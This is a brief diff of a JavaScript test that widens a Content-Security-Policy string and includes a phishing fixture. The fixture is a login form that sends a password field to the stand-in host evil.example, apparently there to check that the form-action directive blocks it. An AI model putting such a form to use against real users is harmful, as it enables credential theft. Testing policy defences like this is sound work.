@@ -10,7 +10,7 @@ beforeAll(async () => {
 });
 afterAll(() => server[Symbol.asyncDispose]());
 
-const POLICY = "form-action 'self'";
+const POLICY = "default-src 'self' 'unsafe-inline' 'unsafe-eval' data: blob:; form-action 'self'";
 const PHISHING = {
   "index.html": "<title>Hi</title>",
   "docs/login.html": `<form action="//evil.example"><input type=password></form>`,
